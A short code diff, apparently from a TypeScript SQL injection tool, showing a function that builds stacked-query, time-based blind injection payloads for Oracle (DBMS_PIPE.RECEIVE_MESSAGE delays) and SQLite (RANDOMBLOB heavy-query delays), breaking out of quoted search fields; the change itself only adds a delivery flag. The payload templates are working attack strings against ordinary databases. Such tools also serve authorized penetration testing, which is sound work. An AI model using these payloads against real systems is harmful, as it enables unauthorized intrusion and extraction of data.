@@ -59,7 +59,7 @@ export function stackedCall(plot: Plot, run: Run, q: Question): Call {
         : g.name === 'oracle' ? `SELECT (CASE WHEN (${q.text}) THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(82)||CHR(72),${delay}) ELSE 1 END) FROM DUAL`
           : `SELECT (CASE WHEN (${q.text}) THEN (LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(${delay}00000000/2))))) ELSE 1 END)`;
   const head = run.point === 'search' ? `${run.base}%';${second}` : `${run.base};${second}`;
-  return deliver(plot, run, tamperText(head, plot.tamper, plot.random, run.point === 'search') + cut(plot, run), { does: 'sleep', holds: q.holds, delayUs: delay * SECOND });
+  return deliver(plot, run, tamperText(head, plot.tamper, plot.random, run.point === 'search') + cut(plot, run), { does: 'sleep', holds: q.holds, delayUs: delay * SECOND, apart: true });
 }
 
 /** The value of an expression inside an error message; null where the product has no such form. */
